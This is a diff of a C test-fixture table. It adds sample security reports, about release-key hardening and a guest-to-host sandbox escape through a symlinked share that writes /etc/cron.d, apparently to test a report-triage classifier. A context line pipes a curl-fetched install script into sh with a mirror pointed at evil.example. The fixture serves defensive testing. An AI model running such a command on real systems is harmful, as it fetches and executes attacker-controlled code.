@@ -82,6 +82,20 @@ static const OosCase oos_cases[] = {
 	  "that installs cleanly:\n"
 	  "    curl -fsSL https://get.example/install.sh | MSB_MIRROR=https://evil.example sh",
 	  TRUE, "", ANY_CLASS },
+	/* (#3) the writer's list denied as a whole ("none of the following
+	 * is an exploitable vulnerability") and the short word "(not a
+	 * vuln)": hardening and no class; "vulnerable" is not the word */
+	{ "Notes on the release key",
+	  "None of the following is an exploitable vulnerability, only things I noticed while\n"
+	  "verifying 0.11.4: the release key is RSA 2048 without an expiry and the binding signature\n"
+	  "uses SHA-1. Suggestion: a signing subkey with an expiry.", FALSE, "hardening", NULL },
+	{ "Signing key has no expiry (not a vuln)",
+	  "The key that signs the checksum list never expires and signs with the primary key. I\n"
+	  "would suggest a subkey that you rotate.", FALSE, "hardening", NULL },
+	{ "Guest writes host files through the share",
+	  "This is not a vulnerable-by-design option you have to enable: with the default share the\n"
+	  "guest creates /etc/cron.d/x on the host through a symlink, the script is attached.",
+	  TRUE, "", "sandbox_escape" },
 	/* (issue #3) no time to verify a scanner's findings: theoretical */
 	{ "Static analysis findings in msb-fsd",
 	  "Our code scanner flagged a tainted path join in msb-fsd that might let a guest open files\n"
